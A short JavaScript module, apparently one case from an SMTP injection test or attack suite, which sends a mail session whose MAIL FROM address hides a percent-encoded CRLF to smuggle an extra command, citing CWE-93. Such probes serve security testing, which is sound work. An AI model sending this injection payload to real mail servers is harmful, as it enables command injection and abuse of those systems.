import { talk } from '../attack.mjs';

/** Puts CRLF and another command into an address by percent. Source: CWE-93. */
export default talk({ sent: 0, steps: () => ['EHLO a\r\n', 'MAIL FROM:<a%0d%0aRCPT@example.org>\r\n', 'QUIT\r\n'] });
